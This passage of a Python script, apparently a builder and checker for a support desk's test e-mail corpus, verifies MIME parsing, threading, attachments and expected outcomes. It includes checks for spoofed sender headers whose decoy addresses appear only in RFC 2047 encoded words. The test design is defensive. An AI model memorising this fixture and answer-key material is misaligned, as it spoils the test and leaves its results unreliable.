    files: list[dict[str, Any]] = []
    signatures: list[dict[str, Any]] = []

    def visit(part):
        content_type = part.get_content_type()
        if content_type == "message/rfc822":
            inner = part.get_payload(0).as_bytes(policy=policy.default.clone(linesep="\r\n"))
            files.append(
                {
                    "filename": part.get_filename(),
                    "content_type": content_type,
                    "size": len(inner),
                    "inline": part.get_content_disposition() == "inline",
                }
            )
            return
        if part.is_multipart():
            for sub in part.iter_parts():
                visit(sub)
            return
        if part is body:
            return
        disposition = part.get_content_disposition()
        text = part.get_content_maintype() == "text" and not part.get_filename()
        if text and disposition != "attachment":
            return
        found = {
            "filename": part.get_filename(),
            "content_type": content_type,
            "size": len(part.get_payload(decode=True) or b""),
            "inline": disposition == "inline",
        }
        (signatures if content_type in SIGNATURE_TYPES else files).append(found)

    visit(message)
    return files, signatures


def sender_of(message: EmailMessage) -> tuple[str, str | None]:
    """(decoded display name, address) from Reply-To, else From — parsed from the raw header
    (encoded words still encoded), so a CR LF hidden in an encoded name can't break it."""
    raw = {name.lower(): value for name, value in message.raw_items()}
    value = raw.get("reply-to") or raw.get("from")
    if not value:
        return "", None
    for name, address in getaddresses([value]):
        if "@" in address:
            return str(make_header(decode_header(name))) if name else "", address
    return "", None


def check_spoof(message: EmailMessage, item: dict) -> list[str]:
    """The trick is really there: each decoy address appears in the header only once its
    encoded words are decoded, never in its raw text outside them."""
    problems = []
    header = item["spoof"]["header"]
    raw = " ".join(v for n, v in message.raw_items() if n.lower() == header.lower())
    outside = re.sub(r"=\?[^?]*\?[A-Za-z]\?.*?\?=", " ", raw)
    decoded = str(make_header(decode_header(raw)))
    for decoy in item["spoof"]["decoys"]:
        if decoy not in decoded:
            problems.append(f"decoy {decoy} is not in the decoded {header}")
        if decoy in outside and decoy != item["sender"]:
            problems.append(f"decoy {decoy} is in the raw {header}, not only in encoded words")
    if item["spoof"]["reason"] and item["expected_outcome"] != "quarantined":
        problems.append("a spoof with a quarantine reason must be quarantined")
    return problems


def check(manifest: dict) -> list[str]:
    problems = []
    files = sorted(path.name for path in HERE.glob("*.eml"))
    listed = [item["file"] for item in manifest["messages"]]
    if files != sorted(listed):
        problems.append(f"files on disk {files} differ from manifest {listed}")
    for item in manifest["messages"]:
        name = item["file"]

        def fail(text, name=name):
            problems.append(f"{name}: {text}")

        raw = (HERE / name).read_bytes()
        if raw.count(b"\n") != raw.count(b"\r\n") or raw.count(b"\r") != raw.count(b"\r\n"):
            fail("line endings are not all CRLF")
        if any(len(line) > 998 for line in raw.split(b"\r\n")):
            fail("a line is longer than 998 octets")
        message = BytesParser(policy=policy.default).parsebytes(raw)
        subject = str(message.get("Subject", ""))
        if subject != item["subject"]:
            fail(f"subject {subject!r} != {item['subject']!r}")
        ids = re.findall(r"<([^<>\s]+)>", str(message.get("Message-ID", "")))
        if (ids[0] if ids else None) != item["message_id"]:
            fail(f"Message-ID {ids} != {item['message_id']!r}")
        if item.get("spoof"):
            for problem in check_spoof(message, item):
                fail(problem)
        if not (item.get("spoof") or {}).get("reason"):
            name_, address = sender_of(message)
            if (name_, address) != (item["sender_name"], item["sender"]):
                fail(f"sender {(name_, address)!r} != {(item['sender_name'], item['sender'])!r}")
        in_reply_to = message.get("In-Reply-To")
        in_reply_to = str(in_reply_to).strip() if in_reply_to else None
        if in_reply_to != item["thread_ref"]["in_reply_to"]:
            fail(f"In-Reply-To {in_reply_to!r} != {item['thread_ref']['in_reply_to']!r}")
        match = REFERENCE.search(subject)
        if (match.group(0).upper() if match else None) != item["thread_ref"]["subject_reference"]:
            fail("subject reference mismatch")
        text = preferred_text(message)
        for phrase in item["body_must_contain"]:
            if phrase not in text:
                fail(f"body lacks {phrase!r}")
        if item.get("readable_text") is not None and text != item["readable_text"]:
            fail("readable_text differs from what the parser reads")
        whole = (
            everything(message) + "\n" + "\n".join(value for _name, value in message.raw_items())
        )
        for phrase in item["body_must_not_contain"]:
            if phrase not in whole:
                fail(f"must-not phrase {phrase!r} is nowhere in the message (vacuous)")
        if item["kind"] in ("bounce", "auto", "bulk"):
            continue
        files_found, signatures = found_attachments(message, message.get_body(("plain", "html")))
        if files_found != item["attachments"]:
            fail(f"attachments {files_found} != {item['attachments']}")
        expected_signatures = [item["signature"]] if item.get("signature") else []
        if signatures != expected_signatures:
            fail(f"signatures {signatures} != {expected_signatures}")
    return problems


# --- writing ------------------------------------------------------------------------------------

CONVENTIONS = {
    "sender": "Reply-To if present, else From (address as written; compare case-insensitively); "
    "null when the message has neither",
    "sender_name": "the display name of that header, RFC 2047-decoded, exactly as sent",
    "subject": "the Subject header RFC 2047-decoded and unfolded (what policy.default gives)",
    "body_must_contain": "phrases found verbatim in the preferred body: text/plain if there is "
    "one, else text/html turned into text (block tags break lines; script/style/head/title "
    "dropped; entities decoded; whitespace runs, NBSP included, collapsed to one space). The "
    "plain part is not unflowed: format=flowed phrases lie within one physical line",
    "body_must_not_contain": "phrases that are in the message (quoted history, <style>/<script>, "
    "an attached message or file) but must not reach the ticket's text",
    "attachments": "what the desk should store as files: decoded file name exactly as sent "
    "(null if the part has none), MIME type, exact decoded byte count, inline flag "
    "(Content-Disposition: inline). The body parts and their text alternatives are not "
    "attachments; a message/rfc822 part counts once, its size being the embedded message's bytes",
    "expected_outcome": "created | threaded | ignored | quarantined, given the tickets in "
    "requires_ticket exist with that customer (otherwise a threaded reply becomes 'created')",
    "requires_ticket": "the ticket (reference and customer e-mail) a reply or bait message "
    "points at; the test creates it first",
    "spoof": "an address header whose encoded words decode to address syntax: header (From "
    "or Reply-To), decoys (addresses that appear only once the encoded words are decoded: never "
    "the customer, never sent anything), reason (the quarantine reason when the header names "
    "no address beyond doubt; then sender is null; null when the message is taken in under "
    "the header's real address)",
    "extra keys": "forwarded_from (who the forwarded original is from), signature (a "
    "multipart/signed signature part, not an attachment), bounce (the failed recipient and the "
    "desk's original message), readable_text (the malformed message's plain text as CPython "
    "3.11's email package decodes it)",
    "outbound ids": "replies point at the desk's own outbound Message-IDs, assumed to look like "
    "reply-N.pul-NNNNNN@pulso.example or ack.pul-NNNNNN@pulso.example",
}


def build() -> dict:
    messages = []
    for function in MESSAGES:
        raw, item = function()
        raw = to_crlf(raw)
        (HERE / item["file"]).write_bytes(raw)
        if "readable_text" in item:
            parsed = BytesParser(policy=policy.default).parsebytes(raw)
            item["readable_text"] = preferred_text(parsed)
        messages.append(item)
    manifest = {
        "description": "Inbound e-mail corpus for the support desk (built by build_corpus.py; "
        "do not edit by hand).",
        "conventions": CONVENTIONS,
        "messages": messages,
    }
    MANIFEST.write_text(json.dumps(manifest, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    return manifest


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--check", action="store_true", help="verify the files, write nothing")
    arguments = parser.parse_args()
    if arguments.check:
        manifest = json.loads(MANIFEST.read_text(encoding="utf-8"))
        problems = check(manifest)
        for problem in problems:
            print(problem)
        print(f"{len(manifest['messages'])} messages, {len(problems)} problems")
        return 1 if problems else 0
    manifest = build()
    print(f"wrote {len(manifest['messages'])} messages and {MANIFEST.name}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
